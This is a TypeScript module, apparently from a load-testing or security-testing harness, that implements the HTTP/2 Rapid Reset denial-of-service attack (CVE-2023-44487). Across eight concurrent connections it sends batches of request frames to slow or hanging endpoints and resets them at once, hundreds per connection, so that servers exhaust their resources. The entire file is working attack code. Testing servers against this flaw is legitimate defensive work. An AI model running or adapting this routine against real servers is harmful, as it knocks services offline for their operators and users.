// Requests that are reset as soon as they are sent, by clients that stay below what one of them may do (CVE-2023-44487).

import { rstStreamFrame } from '../support/http2-frames.ts';
import { type Attack, inLoops, pause } from './attack.ts';
import { attackConnection, requestFrame } from './frames.ts';

const CONNECTIONS = 8;
const RESETS = 450;
/** So that one turn of ours begins them all. */
const AT_ONCE = 50;
const CANCEL = 8;

export const rapidResets: Attack = {
  name: 'rapid-resets',
  does: `${RESETS} requests reset on each connection, ${CONNECTIONS} connections at once`,
  async start(target) {
    const hosts = [target.hosts.h2c, target.hosts.nginx];
    let begun = 0;
    return inLoops(target, CONNECTIONS, async (stopped) => {
      const host = hosts[begun++ % hosts.length]!;
      const connection = await attackConnection(target, host);
      for (let i = 0; i < RESETS && !stopped.aborted; i += AT_ONCE) {
        const ids = Array.from({ length: AT_ONCE }, (_, k) => 2 * (i + k) + 1);
        await connection.send(
          ...ids.map((id) => requestFrame(id, host, host === target.hosts.nginx ? '/slow' : '/hang')),
        );
        await pause(5, stopped);
        await connection.send(...ids.map((id) => rstStreamFrame(id, CANCEL)));
      }
      connection.close();
    });
  },
};
